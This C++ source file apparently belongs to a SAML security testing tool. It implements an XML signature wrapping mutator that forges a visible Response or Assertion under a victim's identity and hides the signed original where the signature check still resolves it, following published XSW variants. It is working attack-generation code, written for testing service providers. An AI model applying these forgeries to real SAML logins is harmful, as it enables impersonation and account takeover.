// SPDX-License-Identifier: Apache-2.0
// xsw.original_hidden — XML signature wrapping (Somorovsky et al., USENIX Security 2012; SAML
// Raider XSW1, 2, 4, 5, 6, 8): the visible Response or Assertion is forged (victim identity), the
// signed original or its signature-less copy is hidden where a resolver still finds its ID
// (XSW-1, XSW-2, XSW-4 … XSW-8, XSW-EXT-REV, XSW-WRAPPER, XSW-SIBLING, XSW-CONTAINER). saml-core
// §5.4.2: the Reference must name the element that carries the Signature and is consumed.
#include "mutators/xsw/xsw.hpp"

namespace samlt::idp::mutators {

// Params: target (assertion | response), place (xsw::k_places; default extensions), signature
// (visible: the forged element keeps the Signature, which still names the original ID; hidden:
// the complete signed original is hidden and the forged copy carries none), ids (fresh |
// root_only | shared, for the forged element), visible_id (the forged element's ID), wrapper (the
// unknown element's name for place wrapper), victim.
core::Result<void> xsw_original_hidden(Target& target) {
  auto which = xsw::choice_param(target, "target", "assertion|response", "assertion");
  auto place = which ? xsw::choice_param(target, "place", xsw::k_places, "extensions") : which;
  auto signature = place ? xsw::choice_param(target, "signature", "visible|hidden", "visible") : place;
  if (!signature) {
    return core::fail(signature.error());
  }
  auto ids = xsw::ids_param(target, xsw::Ids::fresh);
  auto visible_id = string_param(target, "visible_id");
  auto wrapper = string_param(target, "wrapper");
  auto victim = xsw::victim(target);
  if (!ids || !visible_id || !wrapper || !victim) {
    return core::fail(!ids ? ids.error() : !visible_id ? visible_id.error() : !wrapper ? wrapper.error() : victim.error());
  }
  xmlNode* original = *which == "response" ? xsw::response(target) : xsw::first_assertion(target);
  if (original == nullptr || xsw::signature_of(original) == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "the " + *which + " carries no Signature");
  }
  xmlNode* visible = original;
  xmlNode* hidden = nullptr;
  if (*signature == "visible") {
    hidden = xsw::copy_without_signature(original);  // the signed content, as the digest saw it
  } else {
    visible = xsw::copy_without_signature(original);
    hidden = original;
    if (original == target.doc->root()) {
      xmlDocSetRootElement(target.doc->get(), visible);
    } else {
      xmlReplaceNode(original, visible);
    }
  }
  xsw::write_victim(visible, *victim);
  xsw::rename_ids(visible, *ids, *visible_id);
  if (auto hid = xsw::hide(visible, hidden, *place, wrapper->value_or("XSW_ATTACK")); !hid) {
    xmlFreeNode(hidden);
    return hid;
  }
  return {};
}

}  // namespace samlt::idp::mutators
